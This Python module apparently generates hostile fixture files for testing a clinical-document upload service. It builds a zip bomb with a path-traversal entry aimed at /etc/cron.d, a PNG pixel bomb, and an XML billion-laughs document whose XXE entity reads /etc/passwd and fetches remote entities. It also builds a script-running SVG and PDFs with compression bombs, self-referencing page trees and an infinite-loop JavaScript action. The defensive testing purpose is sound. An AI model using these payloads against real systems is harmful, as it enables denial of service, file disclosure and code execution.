"""Small files that become large, or hold what must not be followed, when somebody unpacks, renders or resolves them."""

import io
import struct
import zipfile
import zlib

UNPACKED = 200_000_000


def zip_bomb(name: str) -> bytes:
    """An archive of one member of 200 MB of zeros, and of itself."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open(name, "w", force_zip64=True) as member:
            for _ in range(UNPACKED // 10_000_000):
                member.write(bytes(10_000_000))
        archive.writestr("../../../etc/cron.d/polyclinic", "out of the folder")
    return content.getvalue()


def pixel_bomb() -> bytes:
    """A PNG that says that it has 100,000 times 100,000 pixels."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 16, 6, 0, 0, 0)
    rows = zlib.compress(bytes(20_000_000), 1)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def xml_bomb(url: str) -> bytes:
    """A document with a billion laughs, a file of the machine and a page of the network in it."""
    laughs = "".join(f'<!ENTITY l{depth} "{f"&l{depth - 1};" * 10 if depth else "a laugh"}">' for depth in range(10))
    return (
        f'<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "{url}/dtd" [{laughs}'
        f'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY page SYSTEM "{url}/entity">]>'
        '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<title>&l9;&file;&page;</title><xi:include href="{url}/include"/></ClinicalDocument>'
    ).encode()


def svg(url: str) -> bytes:
    """A picture that runs a program and fetches another."""
    script = f"<script>fetch('{url}/script')</script><image href='{url}/image' onload='alert(1)'/>"
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000">{script}</svg>'.encode()


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects; the first is its catalogue."""
    content, offsets = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(content))
    return content + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + trailer


_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def one_page(content: bytes, filters: bytes) -> bytes:
    """A PDF of one page with this stream."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources " + _FONT + b" >>"
    stream = b"<< /Length %d /Filter %s >>\nstream\n" % (len(content), filters) + content + b"\nendstream"
    return pdf([_CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream])


def _deflated(count: int, content: bytes) -> bytes:
    for _ in range(count):
        content = zlib.compress(content, 9)
    return content


def pdfs() -> dict[str, bytes]:
    """Hostile PDFs by what they do."""
    shown = b"BT /F 12 Tf 10 10 Td (again and again) Tj ET\n"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    endless = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>"
    outlines = b"<< /Type /Catalog /Pages 2 0 R /Outlines " + b"<< /First " * 5000 + b"null" + b" >>" * 5000 + b" >>"
    return {
        "a stream of 300 MB": one_page(_deflated(1, b" " * 300_000_000), b"/FlateDecode"),
        "a stream deflated three times": one_page(
            _deflated(3, b" " * 200_000_000), b"[/FlateDecode /FlateDecode /FlateDecode]"
        ),
        "50 MB of words": one_page(_deflated(1, shown * 1_100_000), b"/FlateDecode"),
        "a million pages that are not there": pdf(
            [_CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", page]
        ),
        "100,000 pages that are one": pdf(
            [_CATALOGUE, b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>", page]
        ),
        "pages that hold themselves": pdf([_CATALOGUE, endless]),
        "objects 5,000 deep": pdf([outlines, b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "arrays 100,000 deep": b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000,
        "a length that points at itself": one_page(b"x", b"/FlateDecode").replace(b"/Length 1", b"/Length 4 0 R"),
        "the start of one": b"%PDF-1.7\n",
        "a program of its own": pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1){}) >> >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                page,
            ]
        ),
    }
